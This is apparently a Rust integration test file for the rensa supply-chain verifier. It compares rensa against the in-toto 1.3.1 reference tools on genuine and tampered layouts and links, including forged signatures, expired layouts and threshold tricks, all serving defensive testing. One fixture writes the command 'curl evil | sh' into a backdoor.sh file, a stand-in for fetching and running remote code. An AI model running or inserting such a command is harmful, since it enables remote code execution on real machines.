//! in-toto 1.x layouts and links made by the reference tools (Debian's `in-toto` 1.3.1:
//! `in-toto-keygen`, `in-toto-run`, the Python API for the layout), verified by rensa and by
//! `in-toto-verify` as the oracle: the genuine supply chain passes both, every attack fails both,
//! and rensa names the reason.
//!
//! The tools come from `scripts/setup-test-deps.sh`; without them these tests fail (set
//! `RENSA_SKIP_IN_TOTO=1` to skip them knowingly).

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::SystemTime;

use rensa_trust::intoto::layout::{SignedLayout, SslibKey, Verification, link_file_name, verify};
use serde_json::Value;

const PYTHON: &str = "/usr/bin/python3";
const FAR_FUTURE: &str = "2100-01-01T00:00:00Z";

/// Whether to run; panics with the fix when the tools are missing.
fn tools_present() -> bool {
    if std::env::var("RENSA_SKIP_IN_TOTO").as_deref() == Ok("1") {
        eprintln!("RENSA_SKIP_IN_TOTO=1: skipping the in-toto interoperability tests");
        return false;
    }
    let tools = ["in-toto-keygen", "in-toto-run", "in-toto-verify"];
    let missing: Vec<&str> = tools
        .iter()
        .copied()
        .filter(|t| !Path::new("/usr/bin").join(t).exists())
        .collect();
    let python_ok = Command::new(PYTHON)
        .args(["-c", "import in_toto, securesystemslib"])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    assert!(
        missing.is_empty() && python_ok,
        "the in-toto reference tools are missing ({}{}): run scripts/setup-test-deps.sh \
         (installs Debian's `in-toto` 1.3.1), or set RENSA_SKIP_IN_TOTO=1 to skip these tests",
        missing.join(", "),
        if python_ok {
            ""
        } else {
            " and `import in_toto` in /usr/bin/python3"
        }
    );
    true
}

fn run(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e}"));
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// A temporary directory removed on drop.
struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> Self {
        let nanos = SystemTime::now()
            .duration_since(SystemTime::UNIX_EPOCH)
            .unwrap()
            .as_nanos();
        let dir = std::env::temp_dir().join(format!("rensa-in-toto-{tag}-{}-{nanos}", std::process::id()));
        fs::create_dir_all(&dir).unwrap();
        TempDir(dir)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// A key made with `in-toto-keygen`.
struct Key {
    /// Private key path.
    path: PathBuf,
    /// `rsa`, `ed25519` or `ecdsa`.
    kind: &'static str,
    keyid: String,
}

impl Key {
    fn public(&self) -> PathBuf {
        self.path.with_extension("pub")
    }
}

/// Everything made once with the real tools and shared by the tests.
struct Fixture {
    _dir: TempDir,
    root: PathBuf,
    owner: Key,
    owner_ed25519: Key,
    alice: Key,
    bob: Key,
    carol: Key,
    dave: Key,
    mallory: Key,
    /// Link files by name: the genuine build links of alice, bob and carol and dave's package link.
    links: BTreeMap<String, Vec<u8>>,
    /// dave's package link of a run that also wrote `backdoor.sh`.
    package_with_backdoor: Vec<u8>,
    /// bob's build link of a run on a different `src/main.c`.
    bob_build_other_source: Vec<u8>,
}

fn keygen(dir: &Path, name: &str, kind: &'static str) -> Key {
    let mut cmd = Command::new("in-toto-keygen");
    cmd.current_dir(dir).args(["-t", kind]);
    if kind == "rsa" {
        cmd.args(["-b", "2048"]);
    }
    run(cmd.arg(name));
    let path = dir.join(name);
    let keyid = SslibKey::from_key_file(&fs::read(path.with_extension("pub")).unwrap())
        .unwrap()
        .keyid()
        .to_owned();
    Key { path, kind, keyid }
}

fn write_tree(dir: &Path, main_c: &str) {
    fs::create_dir_all(dir.join("src")).unwrap();
    fs::write(dir.join("src/main.c"), main_c).unwrap();
    fs::write(dir.join("src/README"), "demo\n").unwrap();
    fs::write(dir.join("src/old.txt"), "obsolete\n").unwrap();
    fs::write(
        dir.join("build.sh"),
        "cp src/main.c src/app.bin && rm src/old.txt && echo built >> src/README\n",
    )
    .unwrap();
    fs::write(
        dir.join("package.sh"),
        "tar czf app.tar.gz -C src app.bin && sha256sum app.tar.gz > app.tar.gz.sha256\n",
    )
    .unwrap();
}

fn in_toto_run(
    dir: &Path,
    step: &str,
    key: &Key,
    materials: &[&str],
    products: &[&str],
    command: &[&str],
) -> Vec<u8> {
    let mut cmd = Command::new("in-toto-run");
    cmd.current_dir(dir)
        .args(["-n", step, "-k"])
        .arg(&key.path)
        .args(["-t", key.kind, "-m"])
        .args(materials)
        .arg("-p")
        .args(products)
        .arg("--")
        .args(command);
    run(&mut cmd);
    fs::read(dir.join(link_file_name(step, &key.keyid))).unwrap()
}

fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let dir = TempDir::new("fixture");
        let root = dir.0.clone();
        let keys = root.join("keys");
        fs::create_dir_all(&keys).unwrap();
        let owner = keygen(&keys, "owner", "rsa");
        let owner_ed25519 = keygen(&keys, "owner2", "ed25519");
        let alice = keygen(&keys, "alice", "ed25519");
        let bob = keygen(&keys, "bob", "rsa");
        let carol = keygen(&keys, "carol", "ecdsa");
        let dave = keygen(&keys, "dave", "ed25519");
        let mallory = keygen(&keys, "mallory", "rsa");

        let mut links = BTreeMap::new();
        let build = ["sh", "build.sh"];
        for (who, key) in [("alice", &alice), ("bob", &bob), ("carol", &carol)] {
            let work = root.join("work").join(who);
            write_tree(&work, "int main(void) { return 0; }\n");
            let link = in_toto_run(&work, "build", key, &["src"], &["src"], &build);
            links.insert(link_file_name("build", &key.keyid), link);
        }
        let work = root.join("work/alice");
        let package = in_toto_run(
            &work,
            "package",
            &dave,
            &["src"],
            &["app.tar.gz", "app.tar.gz.sha256"],
            &["sh", "package.sh"],
        );
        links.insert(link_file_name("package", &dave.keyid), package);
        let package_with_backdoor = in_toto_run(
            &work,
            "package",
            &dave,
            &["src"],
            &["app.tar.gz", "app.tar.gz.sha256", "backdoor.sh"],
            &["sh", "-c", "sh package.sh && echo 'curl evil | sh' > backdoor.sh"],
        );
        let other = root.join("work/bob-other");
        write_tree(&other, "int main(void) { return 1; }\n");
        let bob_build_other_source = in_toto_run(&other, "build", &bob, &["src"], &["src"], &build);

        Fixture {
            _dir: dir,
            root,
            owner,
            owner_ed25519,
            alice,
            bob,
            carol,
            dave,
            mallory,
            links,
            package_with_backdoor,
            bob_build_other_source,
        }
    })
}

/// Makes and signs a layout with in-toto's Python API; returns its path and the keyids the
/// Python side computed (build functionaries, then the packager).
fn make_layout(
    f: &Fixture,
    name: &str,
    owner: &Key,
    expires: &str,
    options: Value,
) -> (PathBuf, Vec<String>) {
    let out = f.root.join(name);
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/in_toto/make_layout.py");
    let key = |k: &Key| serde_json::json!([k.kind, k.public()]);
    let mut args = serde_json::json!({
        "out": out,
        "owner_key": owner.path,
        "owner_type": owner.kind,
        "expires": expires,
        "build": [key(&f.alice), key(&f.bob), key(&f.carol)],
        "build_threshold": 2,
        "package": [key(&f.dave)],
    });
    args.as_object_mut()
        .unwrap()
        .extend(options.as_object().unwrap().clone());
    let stdout = run(Command::new(PYTHON).arg(script).arg(args.to_string()));
    (out, stdout.lines().map(str::to_owned).collect())
}

fn genuine_layout(f: &Fixture) -> &'static Path {
    static LAYOUT: OnceLock<PathBuf> = OnceLock::new();
    LAYOUT.get_or_init(|| {
        let (path, keyids) = make_layout(f, "root.layout", &f.owner, FAR_FUTURE, serde_json::json!({}));
        // rensa computes the keyids in-toto computes.
        let ours: Vec<&str> = [&f.alice, &f.bob, &f.carol, &f.dave]
            .iter()
            .map(|k| k.keyid.as_str())
            .collect();
        assert_eq!(keyids, ours);
        path
    })
}

/// Runs rensa's verifier (reading the files here, as the CLI does).
fn rensa(layout: &Path, key: &Key, links: &BTreeMap<String, Vec<u8>>) -> Verification {
    let layout = SignedLayout::from_json(&fs::read(layout).unwrap()).unwrap();
    let key = SslibKey::from_key_file(&fs::read(key.public()).unwrap()).unwrap();
    verify(&layout, &[key], links, SystemTime::now()).unwrap()
}

/// Runs `in-toto-verify` on the same inputs; true when it accepts.
fn oracle(layout: &Path, key: &Key, links: &BTreeMap<String, Vec<u8>>) -> bool {
    let dir = TempDir::new("oracle");
    let link_dir = dir.0.join("links");
    fs::create_dir_all(&link_dir).unwrap();
    for (name, bytes) in links {
        fs::write(link_dir.join(name), bytes).unwrap();
    }
    let out = Command::new("in-toto-verify")
        .current_dir(&dir.0)
        .arg("-l")
        .arg(layout)
        .arg("-k")
        .arg(key.public())
        .args(["-t", key.kind, "--link-dir"])
        .arg(&link_dir)
        .output()
        .unwrap();
    match out.status.code() {
        Some(0) => true,
        Some(1) => false,
        _ => panic!(
            "in-toto-verify did not run: {}",
            String::from_utf8_lossy(&out.stderr)
        ),
    }
}

/// Both verifiers reject, and rensa's first reason is `reason`.
fn assert_rejected(layout: &Path, key: &Key, links: &BTreeMap<String, Vec<u8>>, reason: &str) {
    let v = rensa(layout, key, links);
    assert!(!v.passed(), "rensa accepted; expected: {reason}");
    assert_eq!(
        v.failure().unwrap().to_string(),
        reason,
        "all failures: {:?}",
        v.failures
    );
    assert!(
        !oracle(layout, key, links),
        "in-toto-verify accepted what rensa rejects: {reason}"
    );
}

fn edit_json(bytes: &[u8], edit: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut v: Value = serde_json::from_slice(bytes).unwrap();
    edit(&mut v);
    serde_json::to_vec_pretty(&v).unwrap()
}

#[test]
fn genuine_supply_chain_passes_rensa_and_in_toto_verify() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let layout = genuine_layout(f);
    let v = rensa(layout, &f.owner, &f.links);
    assert!(v.passed(), "{:?}", v.failures);
    assert_eq!(v.layout_keyids, [f.owner.keyid.as_str()]);
    assert_eq!(v.expires, FAR_FUTURE);
    let build = &v.steps[0];
    assert_eq!(
        (build.name.as_str(), build.threshold, build.passed),
        ("build", 2, true)
    );
    assert_eq!(
        build.functionaries,
        [f.alice.keyid.clone(), f.bob.keyid.clone(), f.carol.keyid.clone()]
    );
    assert!(build.rejected.is_empty() && build.command_mismatch.is_empty());
    let package = &v.steps[1];
    assert_eq!((package.name.as_str(), package.passed), ("package", true));
    assert_eq!(package.functionaries, [f.dave.keyid.as_str()]);
    assert!(oracle(layout, &f.owner, &f.links));

    // Two of the three build functionaries are enough.
    let mut two = f.links.clone();
    two.remove(&link_file_name("build", &f.carol.keyid));
    assert!(rensa(layout, &f.owner, &two).passed());
    assert!(oracle(layout, &f.owner, &two));
}

#[test]
fn layout_signed_with_an_ed25519_key_file() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let (layout, _) = make_layout(
        f,
        "ed25519.layout",
        &f.owner_ed25519,
        FAR_FUTURE,
        serde_json::json!({}),
    );
    let v = rensa(&layout, &f.owner_ed25519, &f.links);
    assert!(v.passed(), "{:?}", v.failures);
    assert!(oracle(&layout, &f.owner_ed25519, &f.links));
}

#[test]
fn wrong_layout_key_and_edited_layout_are_rejected() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let layout = genuine_layout(f);
    assert_rejected(
        layout,
        &f.mallory,
        &f.links,
        &format!("layout has no signature by key {}", f.mallory.keyid),
    );

    // Lower the build threshold to 1 in the signed part.
    let edited = f.root.join("edited.layout");
    let bytes = edit_json(&fs::read(layout).unwrap(), |v| {
        v["signed"]["steps"][0]["threshold"] = 1.into();
    });
    fs::write(&edited, bytes).unwrap();
    assert_rejected(
        &edited,
        &f.owner,
        &f.links,
        &format!("layout signature does not verify with key {}", f.owner.keyid),
    );
}

#[test]
fn expired_layout_is_rejected() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let (layout, _) = make_layout(
        f,
        "expired.layout",
        &f.owner,
        "2020-01-01T00:00:00Z",
        serde_json::json!({}),
    );
    assert_rejected(
        &layout,
        &f.owner,
        &f.links,
        "layout expired at 2020-01-01T00:00:00Z",
    );
}

#[test]
fn edited_links_are_not_counted() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let layout = genuine_layout(f);
    let alice = link_file_name("build", &f.alice.keyid);
    let mut links = f.links.clone();
    links.remove(&link_file_name("build", &f.carol.keyid));
    let forged = edit_json(&links[&alice], |v| {
        v["signed"]["products"]["src/app.bin"]["sha256"] = "00".repeat(32).into();
    });
    links.insert(alice.clone(), forged);
    assert_rejected(
        layout,
        &f.owner,
        &links,
        &format!(
            "step build: 1 distinct authorized functionary of threshold 2 (link {alice} signature does \
             not verify with key {})",
            f.alice.keyid
        ),
    );

    // The package step has threshold 1: its only link edited leaves none.
    let package = link_file_name("package", &f.dave.keyid);
    let mut links = f.links.clone();
    let forged = edit_json(&links[&package], |v| {
        v["signed"]["products"]["app.tar.gz"]["sha256"] = "00".repeat(32).into();
    });
    links.insert(package.clone(), forged);
    assert_rejected(
        layout,
        &f.owner,
        &links,
        &format!(
            "step package: 0 distinct authorized functionaries of threshold 1 (link {package} signature \
             does not verify with key {})",
            f.dave.keyid
        ),
    );
}

#[test]
fn one_functionary_does_not_reach_threshold_two() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let layout = genuine_layout(f);
    let alice = link_file_name("build", &f.alice.keyid);
    let bob = link_file_name("build", &f.bob.keyid);
    let package = link_file_name("package", &f.dave.keyid);
    let only_alice: BTreeMap<String, Vec<u8>> = [alice.clone(), package.clone()]
        .into_iter()
        .map(|n| (n.clone(), f.links[&n].clone()))
        .collect();
    assert_rejected(
        layout,
        &f.owner,
        &only_alice,
        "step build: 1 distinct authorized functionary of threshold 2",
    );

    // alice's link copied to bob's file name: it has no signature by bob.
    let mut copied = only_alice.clone();
    copied.insert(bob.clone(), f.links[&alice].clone());
    assert_rejected(
        layout,
        &f.owner,
        &copied,
        &format!(
            "step build: 1 distinct authorized functionary of threshold 2 (link {bob} has no signature by key {})",
            f.bob.keyid
        ),
    );

    // ... and with its signature relabelled as bob's: alice's signature does not verify with bob's key.
    let relabelled = edit_json(&f.links[&alice], |v| {
        v["signatures"][0]["keyid"] = f.bob.keyid.clone().into();
    });
    let mut copied = only_alice.clone();
    copied.insert(bob.clone(), relabelled);
    assert_rejected(
        layout,
        &f.owner,
        &copied,
        &format!(
            "step build: 1 distinct authorized functionary of threshold 2 (link {bob} signature does not \
             verify with key {})",
            f.bob.keyid
        ),
    );
}

#[test]
fn disallowed_product_is_rejected() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let layout = genuine_layout(f);
    let mut links = f.links.clone();
    links.insert(
        link_file_name("package", &f.dave.keyid),
        f.package_with_backdoor.clone(),
    );
    assert_rejected(
        layout,
        &f.owner,
        &links,
        "artifact rule DISALLOW * of step package failed for product backdoor.sh",
    );
}

#[test]
fn functionaries_that_disagree_are_rejected() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let layout = genuine_layout(f);
    let alice = link_file_name("build", &f.alice.keyid);
    let bob = link_file_name("build", &f.bob.keyid);
    let mut links = f.links.clone();
    links.remove(&link_file_name("build", &f.carol.keyid));
    links.insert(bob.clone(), f.bob_build_other_source.clone());
    assert_rejected(
        layout,
        &f.owner,
        &links,
        &format!("step build: links disagree on materials ({alice}, {bob})"),
    );
}

#[test]
fn inspections_fail_closed() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let (layout, _) = make_layout(
        f,
        "inspect.layout",
        &f.owner,
        FAR_FUTURE,
        serde_json::json!({"inspect": true}),
    );
    let v = rensa(&layout, &f.owner, &f.links);
    assert!(!v.passed());
    assert!(v.steps.iter().all(|s| s.passed), "{:?}", v.steps);
    assert_eq!(
        v.failure().unwrap().to_string(),
        "layout has inspections (untar); running inspections is not supported"
    );
}

/// One key listed under two keyids in the layout is one functionary for rensa. in-toto 1.3.1
/// counts keyids and accepts this (checked here so that the difference stays documented).
#[test]
fn one_key_under_two_keyids_is_one_functionary() {
    if !tools_present() {
        return;
    }
    let f = fixture();
    let (layout, keyids) = make_layout(
        f,
        "alias.layout",
        &f.owner,
        FAR_FUTURE,
        serde_json::json!({"alias_first_build_key": true}),
    );
    let alias = &keyids[1];
    assert_eq!(keyids[0], f.alice.keyid);
    let alice = link_file_name("build", &f.alice.keyid);
    let second = link_file_name("build", alias);
    let relabelled = edit_json(&f.links[&alice], |v| {
        v["signatures"][0]["keyid"] = alias.clone().into();
    });
    let package = link_file_name("package", &f.dave.keyid);
    let links = BTreeMap::from([
        (alice.clone(), f.links[&alice].clone()),
        (second.clone(), relabelled),
        (package.clone(), f.links[&package].clone()),
    ]);
    let v = rensa(&layout, &f.owner, &links);
    assert_eq!(
        v.failure().map(ToString::to_string).as_deref(),
        Some(
            format!(
                "step build: 1 distinct authorized functionary of threshold 2 (link {second} is signed with \
                 the same key as the counted link of {} (one functionary))",
                f.alice.keyid
            )
            .as_str()
        )
    );
    assert!(
        oracle(&layout, &f.owner, &links),
        "in-toto 1.3.1 counted one key once"
    );
}
